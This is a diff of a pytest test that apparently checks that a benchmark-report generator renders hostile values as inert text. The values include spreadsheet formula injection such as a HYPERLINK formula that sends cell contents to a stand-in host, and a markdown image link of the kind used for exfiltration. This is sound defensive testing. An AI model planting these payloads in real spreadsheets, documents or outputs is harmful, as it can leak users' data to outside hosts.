@@ -211,7 +211,8 @@ def test_a_pickle_in_place_of_a_network_that_judges(shared: Path, call_main, nam
 
 
 @pytest.mark.parametrize(
-    "hostile", ['=HYPERLINK("http://x/?"&A1)', "+1", "-1+1", "@SUM(A1)", "\t=1", HTML, "| a | b |\n# c"]
+    "hostile",
+    ['=HYPERLINK("http://x/?"&A1)', "+1", "-1+1", "@SUM(A1)", "\t=1", HTML, "| a | b |\n# c", "![a](http://x/y.png)"],
 )
 def test_formulas_and_html_in_a_result_are_text(shared: Path, call_main, hostile: str) -> None:
     edit(shared / "scores.json", method=hostile, benchmark=hostile, command=hostile, hardware=hostile)
@@ -229,6 +230,9 @@ def test_formulas_and_html_in_a_result_are_text(shared: Path, call_main, hostile
     for tag in ("<script>open", "<img src=x"):
         assert tag not in markdown and tag not in page
     assert not any(line.startswith("# c") for line in markdown.splitlines())
+    # The command alone stands in a block of code, where nothing is a link.
+    cards = [path.read_text().replace(f"```\n{hostile}", "") for path in report.rglob("cards/*/*.md")]
+    assert cards and not any(re.search(r"(?<!\\)\]\(http", text) for text in (markdown, *cards))
     assert_nothing_happened(shared)
 
 
